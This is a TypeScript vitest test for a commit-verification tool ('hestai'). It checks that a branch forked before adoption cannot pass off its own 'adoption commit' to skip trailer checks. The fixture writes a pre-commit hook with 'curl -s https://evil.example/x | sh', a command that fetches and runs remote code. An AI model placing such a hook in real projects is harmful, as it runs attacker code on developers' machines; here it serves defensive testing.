import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { verdictOf, type VerifyReport } from '../helpers/anchored-repo.js';
import { makeRepo, tempDir } from '../helpers/git-repo.js';

// Issue 24 item 5 made the adoption commit (`hestai init --commit`) exempt from trailers and anchor. Once the
// base has adopted, that exemption belongs to the base's own adoption commit only: a branch forked from
// before it must not mint a second one (init's files plus a hook script of its own) that passes CI with no
// trailers and no anchor. Pushed to a bare remote, judged by `hestai verify` (dist/) in a fresh clone.

describe("the adoption commit is the base's own once the base has a config", () => {
  it('attack: a branch forked before the base adopted adds its own "adoption commit" with a hook script and still needs trailers and an anchor', () => {
    const repo = makeRepo();
    repo.commit('docs: the project', { 'README.md': '# project\n' });
    expect(repo.hestai(['init', '--no-husky', '--commit']).status).toBe(0);
    const adoption = repo.git(['rev-parse', 'HEAD']).stdout.trim();
    const remote = path.join(tempDir('hestai-remote-'), 'origin.git');
    repo.git(['init', '-q', '--bare', '-b', 'main', remote]);
    repo.git(['remote', 'add', 'origin', remote]);
    repo.git(['push', '-q', 'origin', 'main']);

    repo.git(['checkout', '-q', '-b', 'feat/adopt-again', 'main~1']);
    repo.git([
      'checkout',
      '-q',
      'main',
      '--',
      '.hestai_workspace.yaml',
      '.gitignore',
      '.hestai/protocol.yaml',
      '.hestai-sys',
    ]);
    repo.write('.husky/pre-commit', '#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
    repo.git(['add', '-A']);
    repo.git(['commit', '-q', '--no-verify', '-m', 'chore: tooling']);
    repo.git(['push', '-q', 'origin', 'feat/adopt-again']);

    const clone = path.join(tempDir('hestai-ci-'), 'clone');
    repo.git(['clone', '-q', '--branch', 'feat/adopt-again', `file://${remote}`, clone]);
    const run = repo.hestai(['verify', '--format', 'json', '--from', 'origin/main'], { cwd: clone });
    const report = JSON.parse(run.stdout) as VerifyReport;
    expect(report.commits.map((c) => c.header)).toEqual(['chore: tooling']);
    expect(verdictOf(report, 'chore: tooling', 'trailers')?.status).toBe('fail');
    expect(verdictOf(report, 'chore: tooling', 'trailers')?.message).not.toMatch(/the adoption commit/);
    expect(run.status).toBe(1);

    // The base's own adoption commit stays exempt when main audits its history from tdd.since.
    const audit = repo.hestai(['verify', '--format', 'json', '--from', 'main~1', '--to', 'main', '--policy', 'main']);
    const own = JSON.parse(audit.stdout) as VerifyReport;
    expect(own.commits).toHaveLength(1);
    expect(own.commits[0]!.sha).toBe(adoption);
    expect(verdictOf(own, own.commits[0]!.header, 'trailers')?.message).toMatch(/the adoption commit/);
    expect(audit.status).toBe(0);
    expect(fs.existsSync(path.join(clone, '.husky/pre-commit'))).toBe(true);
  });
});
